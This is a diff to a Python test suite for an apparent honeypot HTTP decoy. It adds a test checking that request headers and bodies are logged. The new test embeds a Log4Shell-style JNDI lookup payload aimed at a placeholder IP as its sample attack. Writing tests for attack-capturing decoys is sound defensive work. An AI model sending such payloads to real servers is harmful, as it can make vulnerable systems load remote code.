@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import subprocess
 from collections.abc import Callable
 from typing import Any
@@ -130,8 +131,22 @@ def test_a_visit_is_recorded_in_events(decoy: Callable[..., Any]) -> None:
     assert [event["kind"] for event in events] == ["contact", "request", "disconnect"]
     assert [event["n"] for event in events] == [1, 2, 3] and len({event["session"] for event in events}) == 1
     assert events[1]["fields"] == {
-        "method": "GET", "path": "/nope", "status": 404, "user_agent": "probe", "host": "www"
+        "method": "GET", "path": "/nope", "status": 404, "user_agent": "probe", "host": "www",
+        "headers": "host: www\nconnection: close\nuser-agent: probe",
     }  # fmt: skip
+
+
+def test_headers_and_body_of_an_attack_are_in_its_event(decoy: Callable[..., Any]) -> None:
+    server = decoy("http", banner=NGINX, settings={"site": "default"})
+    attack = "${jndi:ldap://198.51.100.9/a}"
+    filler = "".join(f"X-Filler-{number}: {'f' * 90}\r\n" for number in range(15))
+    body = b"x" * 5000
+    head = f"PUT /a HTTP/1.1\r\nHost: www\r\n{filler}X-Api-Version: {attack}\r\nContent-Length: {len(body)}\r\n\r\n"
+    server.ask(head.encode() + body)
+    fields = server.events("request")[0]["fields"]
+    assert f"\nx-api-version: {attack}\n" in fields["headers"]
+    assert (fields["body_size"], fields["body_sha256"]) == (5000, hashlib.sha256(body).hexdigest())
+    assert fields["body"] == "x" * 1000
 
 
 @pytest.mark.parametrize("banner", [NGINX, APACHE, IIS, LIGHTTPD, "Boa/0.94.14rc21"])
